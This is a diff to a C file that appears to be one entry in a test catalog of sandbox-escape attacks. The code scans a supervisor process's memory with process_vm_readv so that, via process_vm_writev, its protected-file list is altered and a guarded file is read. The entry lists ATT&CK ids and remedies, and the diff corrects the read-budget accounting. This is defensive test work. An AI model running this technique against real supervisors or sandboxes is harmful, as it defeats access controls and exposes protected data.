@@ -21,12 +21,13 @@ static bool rewrite(pid_t pid, unsigned long from, unsigned long to)
 {
 	static char copy[MIB];
 
-	for (; from < to && budget >= sizeof(copy); from += sizeof(copy), budget -= sizeof(copy)) {
+	for (; from < to && budget >= sizeof(copy); from += sizeof(copy)) {
 		size_t want = to - from < sizeof(copy) ? to - from : sizeof(copy);
 		struct iovec here = { copy, want }, there = { (void *)from, want };
 		char *at = copy, *end;
 		ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);
 
+		budget -= want;
 		if (n < 0)
 			return false;
 		for (end = copy + n; (at = memmem(at, (size_t)(end - at), before, sizeof(before)));
@@ -72,7 +73,6 @@ const struct attack attack = {
 	.effect = "a file that the supervisor guards is read",
 	.means = "process_vm_writev(2) changes the list in the supervisor's memory",
 	.oracle = "secret:task",
-	.id = NULL,
 	.attack_id = "T1562.001, T1055, CWE-693",
 	.remedy = "a supervisor that is not dumpable; Landlock; a filter without process_vm_writev",
 	.refs = (const char *const[]){ "process_vm_writev(2)", "ptrace(2), access mode", NULL },
